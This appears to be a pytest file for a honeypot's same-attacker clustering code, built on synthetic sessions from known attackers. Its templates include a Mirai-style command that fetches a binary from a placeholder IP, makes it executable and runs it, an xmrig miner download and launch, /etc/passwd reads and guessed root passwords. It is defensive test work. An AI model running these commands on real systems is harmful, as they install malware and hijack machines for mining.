"""Same-attacker clustering on synthetic sessions with known attackers (analysis/cluster.py)."""

from __future__ import annotations

import random

from sandtrap.analysis.cluster import (
    SessionTraits,
    cluster_sessions,
    minhash,
    normalise,
    shingles,
    similarity,
)

MIRAI = [
    "enable",
    "system",
    "shell",
    "sh",
    "cat /proc/mounts; /bin/busybox ECCHI",
    "cd /tmp; wget http://{ip}/bins/x86 -O x86; chmod 777 x86; ./x86 ssh.{n}",
    "/bin/busybox ECCHI",
    "rm -rf x86",
]
MINER = [
    "uname -a",
    "nproc",
    "cat /proc/cpuinfo | grep name | head -n 1",
    "curl -s http://{ip}:8080/xmrig.tar.gz | tar xz",
    "./xmrig -o stratum+tcp://{ip}:3333 -u 4{blob} --donate-level 1 -B",
    "crontab -l",
]
RECON = ["w", "ls -la", "cat /etc/passwd", "ps aux", "history", "exit"]


def fill(template: list[str], rng: random.Random) -> tuple[str, ...]:
    ip = ".".join(str(rng.randrange(1, 255)) for _ in range(4))
    blob = "".join(rng.choice("ABCDEFabcdef0123456789") for _ in range(90))
    return tuple(line.format(ip=ip, n=rng.randrange(1000), blob=blob) for line in template)


def session(name: str, commands: tuple[str, ...] = (), **kwargs: object) -> SessionTraits:
    rng = random.Random(name)
    src = f"203.0.113.{rng.randrange(1, 250)}"
    return SessionTraits(
        session=name, src_ip=src, started=f"2026-11-29T{name}", commands=commands, **kwargs
    )  # type: ignore[arg-type]


def test_normalise_replaces_what_changes_between_runs() -> None:
    one = normalise("cd /tmp;  wget http://1.2.3.4/bins/x86; chmod 777 x86; ./x86 ssh.12")
    two = normalise("cd /tmp; wget http://9.9.9.9:81/bins/x86; chmod 755 x86; ./x86 ssh.998")
    assert one == two == "cd /tmp; wget <url>; chmod <n> x86; ./x86 ssh.<n>"
    assert normalise("echo " + "QUJD" * 20 + " | base64 -d") == "echo <blob> | base64 -d"


def test_minhash_estimates_jaccard() -> None:
    rng = random.Random(1)
    universe = [f"cmd {i}" for i in range(200)]
    for _ in range(20):
        a = set(rng.sample(universe, 40))
        b = set(rng.sample(sorted(a), 30)) | set(rng.sample(universe, 10))
        exact = len(a & b) / len(a | b)
        assert abs(similarity(minhash(a), minhash(b)) - exact) < 0.2
    assert similarity(minhash(set()), minhash({"x"})) == 0.0


def test_known_attackers_are_recovered_and_printed() -> None:
    rng = random.Random(7)
    truth: dict[str, str] = {}
    traits: list[SessionTraits] = []

    def add(attacker: str, trait: SessionTraits) -> None:
        truth[trait.session] = attacker
        traits.append(trait)

    for n in range(12):  # a Mirai-like bot from many addresses, hosts and ids differing
        add("mirai", session(f"m{n:02d}", fill(MIRAI, rng)))
    for n in range(6):  # a miner campaign; one run skips a step
        lines = list(fill(MINER, rng))
        if n == 5:
            del lines[1]
        add("miner", session(f"x{n:02d}", tuple(lines)))
    for n, word in enumerate(("alpha", "bravo", "charlie", "delta")):  # one dropped file
        lines = (f"echo {word}", f"ls /{word}")
        add("dropper", session(f"d{n:02d}", lines, artifacts=frozenset({"ab" * 32})))
    for n in range(3):  # the same planted key, nothing else in common
        add("keys", session(f"k{n:02d}", (f"id {n}",), keys=frozenset({"SHA256:key"})))
    for n in range(3):  # a brute forcer's password list
        attempts = (("root", "root"), ("root", "admin"), ("admin", "1234"))
        add("guesser", session(f"g{n:02d}", attempts=attempts))
    for n in range(10):  # humans poking around, each differently
        lines = (*tuple(rng.sample(RECON, 3)), f"cat /home/u{n}/notes.txt", f"vi /etc/host{n}")
        add(f"human{n}", session(f"h{n:02d}", lines))
    clusters = cluster_sessions(traits)
    found = {frozenset(m.session for m in c.members) for c in clusters}
    expected: dict[str, set[str]] = {}
    for name, attacker in truth.items():
        expected.setdefault(attacker, set()).add(name)
    wanted = {frozenset(v) for k, v in expected.items() if len(v) > 1}
    # Pairwise precision and recall over sessions placed together.
    placed = {(a, b) for group in found for a in group for b in group if a < b}
    actual = {(a, b) for group in wanted for a in group for b in group if a < b}
    precision = len(placed & actual) / len(placed)
    recall = len(placed & actual) / len(actual)
    print(f"clustering: {len(found)} clusters, pair precision {precision:.2f}, recall {recall:.2f}")
    assert found == wanted
    ties = {frozenset(m.session for m in c.members): c.ties for c in clusters}
    assert set(ties[frozenset(expected["mirai"])]) == {"commands"}
    assert ties[frozenset(expected["dropper"])] == {"artifact": {"ab" * 32: 3}}
    assert set(ties[frozenset(expected["keys"])]) == {"public_key"}
    assert set(ties[frozenset(expected["guesser"])]) == {"password_list"}
    assert clusters[0].members[0].session == "m00"  # largest first, members in time order


def test_client_and_credentials_tie() -> None:
    common = {"hassh": "h" * 32, "client_version": "SSH-2.0-Go", "username": "root"}
    traits = [
        session("a1", password="p4ss!", **common),
        session("a2", password="p4ss!", **common),
        session("a3", password="other", **common),
    ]
    (cluster,) = cluster_sessions(traits)
    assert [m.session for m in cluster.members] == ["a1", "a2"]
    assert list(cluster.ties) == ["client_and_credentials"]
    # Bait every bot tries ties nothing, whatever the client.
    bait = [session(f"b{n:02d}", password="123456", **common) for n in range(21)]
    assert cluster_sessions(bait) == []


def test_single_commands_and_empty_sessions_do_not_cluster() -> None:
    traits = [session(f"s{n}", ("uname -a",)) for n in range(5)] + [session("e1"), session("e2")]
    assert cluster_sessions(traits) == []
    assert shingles(["a", " ", "b"]) == {"a", "b", "a\nb"}
    assert shingles(["a; b && c"]) == {"a", "b", "c", "a\nb", "b\nc"}
